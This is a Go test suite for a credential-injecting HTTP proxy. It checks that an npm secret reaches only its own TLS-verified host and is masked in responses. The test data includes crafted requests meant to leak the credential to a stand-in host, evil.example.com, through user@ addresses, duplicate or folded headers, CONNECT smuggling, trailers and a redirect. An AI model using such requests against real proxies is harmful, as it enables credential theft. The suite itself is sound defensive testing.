package proxy_test

import (
	"bufio"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"pawl/tool/proxy"
)

const (
	theValue       = `npm_"Sehr<geheim>"&42/x+y`
	thePlaceholder = "pawl-secret-npm-ABCDEF"
)

// A vault is a server with TLS that says what it was sent: in the status of no request, but in headers, body and trailers.
type vault struct {
	*httptest.Server
	port string
	mu   sync.Mutex
	got  []string // the credentials of each request, with its path
}

func newVault(t testing.TB) *vault {
	v := &vault{}
	v.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		v.mu.Lock()
		v.got = append(v.got, r.Method+" "+r.Host+r.URL.Path+" "+strings.Join(r.Header["Authorization"], ","))
		v.mu.Unlock()
		sent := r.Header.Get("Authorization")
		switch r.URL.Path {
		case "/echo":
			w.Write(body)
			return
		case "/hints":
			w.Header().Set("Link", sent)
			w.WriteHeader(http.StatusEarlyHints)
		case "/mute":
			panic(http.ErrAbortHandler)
		case "/packed":
			w.Header().Set("Content-Encoding", "gzip")
		case "/redirect":
			w.Header().Set("Location", "http://evil.example.com/?"+sent)
			w.WriteHeader(http.StatusFound)
		}
		w.Header().Set("Trailer", "X-End")
		w.Header().Set("X-Echo", sent)
		fmt.Fprintf(w, "%s %s %s\n", r.Host, body, r.Header)
		for _, half := range []string{theValue[:7], theValue[7:]} { // in two pieces
			io.WriteString(w, half)
			w.(http.Flusher).Flush()
		}
		w.Header().Set("X-End", sent)
	}))
	v.Config.ErrorLog = log.New(io.Discard, "", 0)
	v.StartTLS()
	t.Cleanup(v.Close)
	v.port = portOf(t, v.URL)
	return v
}

func (v *vault) requests() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	return slices.Clone(v.got)
}

// startWithSecret serves a proxy for a command that was given the secret of v's host, which may reach others there too.
func (v *vault) startWithSecret(t testing.TB, more ...string) (*proxy.Proxy, string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AddCert(v.Certificate())
	host := "example.com:" + v.port
	p := proxy.Serve(l, proxy.Options{Hosts: append(more, "npm@"+host), Lookup: toLoopback, Roots: roots,
		Secrets: []proxy.Secret{{Name: "npm", Host: host, Header: "Authorization", Placeholder: thePlaceholder, Value: theValue}}})
	t.Cleanup(p.Close)
	return p, l.Addr().String()
}

// whole sends bytes to a proxy and returns all that comes back.
func whole(t testing.TB, at, sent string) string {
	t.Helper()
	c, err := net.Dial("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	io.WriteString(c, sent)
	b, _ := io.ReadAll(c)
	return string(b)
}

func TestASecretIsPutInForItsHostAndHiddenInTheAnswer(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	p, at := v.startWithSecret(t)
	basic := func(text string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte(text)) }
	for sent, want := range map[string]string{
		"Bearer " + thePlaceholder: "Bearer " + theValue, "token " + thePlaceholder: "token " + theValue, thePlaceholder: theValue,
		basic("me:" + thePlaceholder): basic("me:" + theValue), basic(thePlaceholder + ":"): basic(theValue + ":"),
	} {
		for _, path := range []string{"/", "/hints", "/redirect"} {
			answer := whole(t, at, "GET http://EXAMPLE.com.:"+v.port+path+" HTTP/1.1\r\nHost: evil.example.com\r\nTE: trailers\r\nAuthorization: "+sent+"\r\nConnection: close\r\n\r\n")
			got := v.requests()
			if last := got[len(got)-1]; last != "GET example.com:"+v.port+path+" "+want {
				t.Errorf("%q: the host got %q", sent, last)
			}
			_, credential, _ := strings.Cut(want, " ")
			for _, value := range []string{theValue, credential, theValue[7:]} {
				if value != "" && strings.Contains(answer, value) {
					t.Errorf("%q %s: the answer has the value: %q", sent, path, answer)
				}
			}
			if !strings.Contains(answer, "[hidden: npm]") || strings.Contains(answer, "X-End") || strings.Contains(answer, " 103 ") {
				t.Errorf("%q %s: answered %q", sent, path, answer)
			}
		}
	}
	if put := p.Put(); !slices.Equal(put, []string{"npm"}) {
		t.Errorf("put: %q", put)
	}
	if answer := whole(t, at, "GET http://example.com:"+v.port+"/packed HTTP/1.1\r\nHost: x\r\nAuthorization: "+thePlaceholder+"\r\nConnection: close\r\n\r\n"); !strings.HasPrefix(answer, "HTTP/1.1 502 ") || !strings.Contains(answer, "Content-Encoding gzip") {
		t.Errorf("compressed: %q", answer)
	}
}

// A host that answers with what it is sent is no way to try how the value begins: an answer comes in the same pieces.
func TestThePiecesOfAnAnswerSayNothingOfASecret(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	_, at := v.startWithSecret(t)
	pieces := func(body string) (sizes []string) {
		_, rest, _ := strings.Cut(whole(t, at, fmt.Sprintf("POST http://example.com:%s/echo HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", v.port, len(body), body)), "\r\n\r\n")
		for rest != "" {
			size, after, _ := strings.Cut(rest, "\r\n")
			n, err := strconv.ParseUint(size, 16, 31)
			if err != nil || n == 0 {
				return sizes
			}
			sizes, rest = append(sizes, size), after[n+2:]
		}
		return sizes
	}
	for n := 1; n < len(theValue); n++ {
		if got, other := pieces("guess: "+theValue[:n]), pieces("guess: "+strings.Repeat("~", n)); !slices.Equal(got, other) {
			t.Errorf("the first %d bytes come in pieces of %q, others in %q", n, got, other)
		}
	}
}

// No spelling of a request leads the value elsewhere, or into another part of a request, which the host might keep and show.
func TestASecretIsPutInNowhereElse(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	var mu sync.Mutex
	var plain []string // what went over the network without TLS
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		defer mu.Unlock()
		plain = append(plain, fmt.Sprint(r.Host, r.URL, r.Header, string(body)))
	}))
	defer elsewhere.Close()
	port := portOf(t, elsewhere.URL)
	_, at := v.startWithSecret(t, "other.example.com:"+v.port, "evil.example.com:"+port, "example.com:"+port)
	host, auth := "example.com:"+v.port, "Authorization: Bearer "+thePlaceholder+"\r\n"
	for name, sent := range map[string]string{
		"another host":            "GET http://evil.example.com:" + port + "/ HTTP/1.1\r\nHost: " + host + "\r\n" + auth + "Connection: close\r\n\r\n",
		"another port":            "GET http://example.com:" + port + "/ HTTP/1.1\r\nHost: " + host + "\r\n" + auth + "Connection: close\r\n\r\n",
		"two hosts":               "GET http://" + host + "/ HTTP/1.1\r\nHost: " + host + "\r\nHost: evil.example.com\r\n" + auth + "Connection: close\r\n\r\n",
		"a user in the address":   "GET http://" + host + "@evil.example.com:" + port + "/ HTTP/1.1\r\nHost: " + host + "\r\n" + auth + "Connection: close\r\n\r\n",
		"a folded header":         "GET http://evil.example.com:" + port + "/ HTTP/1.1\r\nHost: x\r\nX: y\r\n " + auth + "Connection: close\r\n\r\n",
		"no host":                 "GET / HTTP/1.1\r\nHost: " + host + "\r\n" + auth + "Connection: close\r\n\r\n",
		"a secret in the clear":   "CONNECT evil.example.com:" + port + " HTTP/1.1\r\n\r\nGET http://" + host + "/ HTTP/1.1\r\nHost: " + host + "\r\n" + auth + "Connection: close\r\n\r\n",
		"HTTP/1.0":                "GET http://evil.example.com:" + port + "/ HTTP/1.0\r\nHost: " + host + "\r\n" + auth + "\r\n",
		"an address":              "GET http://" + host + "/?" + thePlaceholder + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"another header":          "GET http://" + host + "/ HTTP/1.1\r\nHost: x\r\nX-Amz-Meta-A: " + thePlaceholder + "\r\nUser-Agent: " + thePlaceholder + "\r\nCookie: a=" + thePlaceholder + "\r\nConnection: close\r\n\r\n",
		"a part of a credential":  "GET http://" + host + "/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer x" + thePlaceholder + "\r\nConnection: close\r\n\r\n",
		"a body":                  "POST http://" + host + "/ HTTP/1.1\r\nHost: x\r\nContent-Length: 22\r\nConnection: close\r\n\r\n" + thePlaceholder,
		"a trailer":               "POST http://" + host + "/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\nConnection: close\r\n\r\n0\r\n" + auth + "\r\n",
		"a hop":                   "GET http://" + host + "/ HTTP/1.1\r\nHost: x\r\n" + auth + "Connection: close, Authorization\r\n\r\n",
		"the placeholder of then": "GET http://" + host + "/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer pawl-secret-npm-OLDONE\r\nConnection: close\r\n\r\n",
		"a host of the same site": "GET http://other.example.com:" + v.port + "/ HTTP/1.1\r\nHost: x\r\n" + auth + "Connection: close\r\n\r\n",
	} {
		before := len(v.requests())
		answer := whole(t, at, sent)
		for _, r := range v.requests()[before:] {
			if strings.Contains(r, theValue) {
				t.Errorf("%s: the host got %q", name, r)
			}
		}
		if strings.Contains(answer, theValue) {
			t.Errorf("%s: answered %q", name, answer)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(plain) < 3 || slices.ContainsFunc(plain, func(s string) bool { return strings.Contains(s, theValue) }) {
		t.Errorf("without TLS: %q", plain)
	}
	// The rest of what was asked to be changed is not begun, and no piece of an answer is asked for.
	answer := whole(t, at, "GET http://"+host+"/ HTTP/1.1\r\nHost: x\r\n"+auth+"Upgrade: websocket\r\nConnection: Upgrade, HTTP2-Settings, close\r\nHTTP2-Settings: AA\r\nRange: bytes=0-3\r\nAccept-Encoding: gzip\r\n\r\n")
	if !strings.HasPrefix(answer, "HTTP/1.1 200 ") || strings.Contains(answer, "Upgrade") || strings.Contains(answer, "Range") || !strings.Contains(answer, "Accept-Encoding:[identity]") {
		t.Errorf("answered %q", answer)
	}
}

// A host that gives no answer has got the value nevertheless, and that is said.
func TestASecretThatWasSentIsNotedWithoutAnAnswer(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	p, at := v.startWithSecret(t)
	answer := whole(t, at, "POST http://example.com:"+v.port+"/mute HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nAuthorization: "+thePlaceholder+"\r\nConnection: close\r\n\r\nx")
	if got := v.requests(); !strings.HasPrefix(answer, "HTTP/1.1 502 ") || len(got) != 1 || !slices.Equal(p.Put(), []string{"npm"}) {
		t.Errorf("answered %q; put: %q; it got %q", answer, p.Put(), got)
	}
}

// A server that is not the host, by its certificate, is sent nothing.
func TestASecretIsSentToNoServerThatIsNotItsHost(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	host := "registry.example.org:" + v.port // not in the certificate
	roots := x509.NewCertPool()
	roots.AddCert(v.Certificate())
	served := proxy.Serve(l, proxy.Options{Hosts: []string{"npm@" + host}, Lookup: toLoopback, Roots: roots,
		Secrets: []proxy.Secret{{Name: "npm", Host: host, Header: "Authorization", Placeholder: thePlaceholder, Value: theValue}}})
	t.Cleanup(served.Close)
	get := "GET http://" + host + "/ HTTP/1.1\r\nHost: x\r\nAuthorization: " + thePlaceholder + "\r\nConnection: close\r\n\r\n"
	if answer := whole(t, l.Addr().String(), get); !strings.HasPrefix(answer, "HTTP/1.1 502 ") || !strings.Contains(answer, "certificate") || len(v.requests()) > 0 {
		t.Errorf("answered %q; it got %q", answer, v.requests())
	}
	if a := served.Asked(); !slices.ContainsFunc(a, func(a proxy.Asked) bool { return strings.Contains(a.Problem, "certificate") }) || len(served.Put()) > 0 {
		t.Errorf("asked %+v; put: %q", a, served.Put())
	}
	// Nor is one that does not speak TLS, and none in the network of the machine.
	var got sync.Map
	plain, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer plain.Close()
	go func() {
		for {
			c, err := plain.Accept()
			if err != nil {
				return
			}
			line, _ := bufio.NewReader(c).ReadString(' ')
			got.Store(line, true)
			io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(plain.Addr().String())
	for _, c := range []struct{ host, want string }{{"example.com:" + port, "HTTP/1.1 502 "}, {"example.com", "HTTP/1.1 403 "}} {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		p := proxy.Serve(l, proxy.Options{Hosts: []string{"npm@" + c.host}, Lookup: toLoopback, Roots: roots,
			Secrets: []proxy.Secret{{Name: "npm", Host: c.host, Header: "Authorization", Placeholder: thePlaceholder, Value: theValue}}})
		t.Cleanup(p.Close)
		if answer := whole(t, l.Addr().String(), strings.Replace(get, host, c.host, 1)); !strings.HasPrefix(answer, c.want) {
			t.Errorf("%s: answered %q", c.host, answer)
		}
		if put := p.Put(); len(put) > 0 {
			t.Errorf("%s: put: %q", c.host, put)
		}
	}
	if _, ok := got.Load("GET "); ok {
		t.Error("a request went out without TLS")
	}
}
